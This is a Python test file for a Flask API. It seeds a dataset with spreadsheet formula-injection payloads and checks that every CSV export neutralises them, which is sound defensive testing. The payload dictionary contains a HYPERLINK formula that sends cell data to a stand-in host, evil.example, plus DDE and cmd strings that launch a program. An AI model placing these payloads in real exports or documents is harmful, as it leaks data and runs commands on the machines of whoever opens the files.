"""Spreadsheet formulas: no cell of a table or of a file of a release begins as a formula, whatever a record says."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient

from api.domain.records import Dataset
from api.storage.schema import upgrade
from tests.parts import one_in
from tests.web.conftest import lasting_app, publish_to
from tests.web.hostile.poison import poison

FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "apostrophe": "'=1+1",
    "link of data": '=DDE("cmd";"/C calc";"x")',
}
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(scope="module", params=one_in(5, sorted(FORMULAS)))
def formulas(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, dataset: Dataset
) -> Iterator[Flask]:
    url = f"sqlite:///{tmp_path_factory.mktemp('formulas')}/ra.sqlite"
    upgrade(url)
    publish_to(url, poison(dataset, FORMULAS[request.param], in_front=True))
    with lasting_app(url) as app:
        yield app


def list_tables(client: FlaskClient) -> Iterator[str]:
    """List every address of a table: each list, each list inside of records, and the comparison in each layout."""
    for path, item in client.get("/openapi.json").get_json()["paths"].items():
        parameters = {each.get("name"): each for each in item.get("get", {}).get("parameters", [])}
        formats = parameters.get("format", {}).get("schema", {}).get("enum", [])
        if "csv" not in formats or "{" in path:
            continue
        query = "treatments=adalimumab,uc-msc&" if path == "/v1/comparisons" else "limit=200&"
        yield f"{path}?{query}format=csv"
        for table in parameters.get("table", {}).get("schema", {}).get("enum", []):
            yield f"{path}?{query}format=csv&table={table}"


def test_no_cell_is_a_formula(formulas: Flask) -> None:
    client = formulas.test_client()
    addresses = list(list_tables(client))
    assert len(addresses) > 20
    guarded = 0
    for address in addresses:
        response = client.get(address)
        assert response.status_code == 200, response.get_data(as_text=True)
        assert response.content_type == "text/csv; charset=utf-8; header=present"
        for row in csv.reader(io.StringIO(response.get_data(as_text=True), newline=""), strict=True):
            for cell in row:
                assert not cell.startswith(STARTS) or is_number(cell), (address, cell)
                guarded += cell.startswith("'")
    assert guarded > 20


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
